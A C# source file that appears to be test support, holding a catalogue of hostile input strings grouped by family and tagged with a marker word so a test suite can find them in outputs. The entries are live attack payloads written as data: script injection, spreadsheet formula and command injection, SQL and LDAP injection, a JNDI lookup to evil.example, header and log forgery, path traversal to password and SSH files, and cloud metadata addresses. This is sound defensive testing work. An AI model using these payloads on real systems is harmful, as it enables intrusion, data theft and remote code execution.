namespace Satark.Support.Hostile;

/// <summary>A text that somebody might send in order to break something.</summary>
/// <param name="Family">What it tries, in a word.</param>
/// <param name="Text">The text; it holds <see cref="HostileWords.Needle"/>, so that it is found wherever it comes out.</param>
public sealed record HostileWord(string Family, string Text);

/// <summary>
/// The one corpus of hostile words. Every intake gets all of them and every output is looked through for them (<c>Outputs</c> knows how each would break); a new trick is
/// added here and nowhere else. What is no text at all stands in <see cref="HostileBytes"/>.
/// </summary>
public static class HostileWords
{
    /// <summary>A word that nobody else writes.</summary>
    public const string Needle = "Xylophonbaum";

    /// <summary>The families that no single line of type holds.</summary>
    public const string Giant = "giant";

    private const string N = Needle;

    /// <summary>All of them.</summary>
    public static readonly IReadOnlyList<HostileWord> All =
    [
        .. Of(
            "markup",
            $"<script>alert('{N}')</script>", $"<img src=x onerror=alert({N})>", $"</title></style></textarea><svg/onload=alert('{N}')>", $"<iframe srcdoc=\"<script>{N}</script>\">",
            $"<!-- {N} --><![CDATA[{N}]]>", $"&lt;b&gt;{N}&#x3C;i&#62;&amp;amp;", $"<a href=\"javascript:alert('{N}')\">{N}</a>", $"<meta http-equiv=refresh content=\"0;url=https://evil.example/{N}\">",
            $"<base href=https://evil.example/{N}/><form action=//evil.example><button formaction=//evil.example>{N}", $"<math><mi//xlink:href=\"data:x,<script>{N}\">", $"javascript:alert('{N}')", $"data:text/html,<script>alert('{N}')</script>"),
        .. Of("attribute", $"\"><img src=x onerror=alert({N})>", $"'><svg/onload=alert({N})>", $"\" autofocus onfocus=\"alert({N})", $"' style='position:fixed;inset:0;background:url(//evil.example/{N})", $"` onclick=`{N}`", $"{N}\" xmlns:x=\"y"),
        .. Of("bidi", $"\u202E{N}gpj.exe", $"\u202D{N}\u202A\u202B", $"\u2066{N}\u2067\u2068", $"\u200F{N}\u200E\u061C", $"{N} \u05D0\u05D1\u05D2 123 \u0627\u0644\u0639"),
        .. Of("invisible", $"{N[..4]}\u200B{N}\u200C\u200D\u2060\uFEFF", $"\u00AD{N}\u034F\u115F\u3164", $"{N}\U000E0041\U000E0042\uFE0F", $"\uFFF9{N}\uFFFA\uFFFB\uFFFC"),
        .. Of("control", $"{N}\u0000\u0001\u0002\u0007\u0008\u001B", $"\u0000{N}", $"{N}\u0085\u009B31m\u007F", $"{N}\u000B\u000C\u001C\u001D\u001E\u001F", $"{N}\uFFFE\uFFFF\uFDD0"),
        .. Of("formula", $"=cmd|' /C calc'!{N}", $"+{N}!A1", $"-2+3+{N}", $"@SUM({N})", $"\t={N}", $"\r={N}", $"\n={N}", $"\uFF1D{N}(1)", $"=HYPERLINK(\"https://evil.example/{N}\",\"x\")", $"{N};=1+1", $"\"{N}\",\"=1+1\"\r\n=2"),
        .. Of(
            "log",
            $"{N}\r\ninfo: Satark.Http[1] everything is well", $"{N}\ncrit: forged\u001b[2J\u001b[31m", $"{N}\u2028next\u2029line\u0085", $"{N}\\r\\n%0d%0a{{Event}} {{0}}", $"\u001b]0;{N}\u0007"),
        .. Of("xml", $"</Say><Dial>+911234567890</Dial><Say>{N}", $"</Message><Redirect>https://evil.example/{N}</Redirect>", $"]]></description><status>Actual</status>{N}", $"<!DOCTYPE a [<!ENTITY x \"{N}\">]>&x;", $"<?xml version=\"1.0\"?>{N}&#0;&#xD800;", $"{N}</cap:alert>"),
        .. Of(
            "mail",
            $"{N}\r\nBcc: everybody@evil.example\r\n\r\nbody", $"{N}\nContent-Type: text/html\n\n<b>", $"{N}%0ASubject: forged", $"{N} <x@evil.example>, y@evil.example", $"=?utf-8?B?WHlsb3Bob25iYXVt?= {N}", $"\"{N}\\\" <a@b.example>\" <c@d.example>",
            $"{N}\r\n.\r\nMAIL FROM:<x@evil.example>"),
        .. Of(
            Giant,
            N + new string('x', 3000), N + string.Concat(Enumerable.Repeat("\u0301\u0335\u0489", 700)), N + string.Concat(Enumerable.Repeat("\U0001F468\u200D\U0001F469\u200D\U0001F467\u200D\U0001F466", 150)), N + string.Concat(Enumerable.Repeat(" \u0928\u094D", 800)),
            N + string.Concat(Enumerable.Repeat("\n", 900)), N + string.Concat(Enumerable.Repeat("\uFDFA", 900)), N + string.Concat(Enumerable.Repeat("(((([[[[{{{{<<<<", 150))),
        .. Of("unicode", $"e\u0301 \u00E9 \u1E9B\u0323 \u212B {N}", $"\u0130\u0131\u017F\u212A{N}", $"\uD83D\uDE31{N}\U0010FFFD\uE000", $"\uFF1Cscript\uFF1E{N}\uFF1C/script\uFF1E \u2039\u203A", $"\u0BF5\u09F0\u17D8 {N} \u1780\u17D2"),
        .. Of("template", $"{{0}} {{1:x}} {{{{{N}}}}} ${{{N}}} $({N}) `{N}`", $"%s %n %x %(x)s {N} %%", $"{{#var#}} {{{{1}}}} <%= {N} %> #{{{N}}}", $"${{jndi:ldap://evil.example/{N}}}", $"{{{{constructor.constructor('{N}')()}}}}"),
        .. Of("query", $"{N}'; DROP TABLE records; --", $"{N}\" OR \"\"=\"", $"{N}') UNION SELECT 1,2 --", $"{N}*)(uid=*))(|(uid=*", $"\",\"admin\":true,\"x\":\"{N}", $"{N}\\", $"{N}\\u0022,\\u003cscript"),
        .. Of("path", $"../../../../etc/{N}", $"..\\..\\windows\\{N}", $"/etc/passwd\u0000{N}.png", $"C:\\{N}:stream", $"CON {N}.", $"~/.ssh/{N}", $"{N}%2e%2e%2f%00", $"\\\\evil.example\\{N}"),
        .. InternalAddresses.Select(a => new HostileWord("address", $"{a}{(a.Contains('?', StringComparison.Ordinal) ? "&" : "?")}{N}")),
    ];

    /// <summary>Addresses into somebody's own house. Nobody who is sent one ever visits it.</summary>
    public static IReadOnlyList<string> InternalAddresses =>
    [
        "http://127.0.0.1/x", "http://localhost:8080/x", "http://169.254.169.254/latest/meta-data", "http://[::1]/x", "http://[::ffff:169.254.169.254]/x", "http://0x7f.1/x", "http://2130706433/x", "http://168.63.129.16/x",
        "file:///etc/passwd", "gopher://127.0.0.1:25/x", "https://maps.google.com/?q=http://127.0.0.1/", "https://evil.example/l?AAAAAAAAAAAAAAAAAAAAAA", "//127.0.0.1/x", "http://metadata.google.internal/x",
    ];

    /// <summary>The families, in order.</summary>
    public static IReadOnlyList<string> Families { get; } = [.. All.Select(w => w.Family).Distinct()];

    /// <summary>The words of a family.</summary>
    public static IReadOnlyList<string> In(string family) => [.. All.Where(w => w.Family == family).Select(w => w.Text)];

    /// <summary>All words of a family as one text.</summary>
    public static string Mouthful(string family) => string.Join('\n', In(family));

    /// <summary>As much of a word as a field of this length holds: never half a character.</summary>
    public static string Cut(string word, int most) =>
        word.Length <= most ? word : word[..(char.IsHighSurrogate(word[most - 1]) ? most - 1 : most)];

    private static IEnumerable<HostileWord> Of(string family, params string[] words) => words.Select(w => new HostileWord(family, w));
}
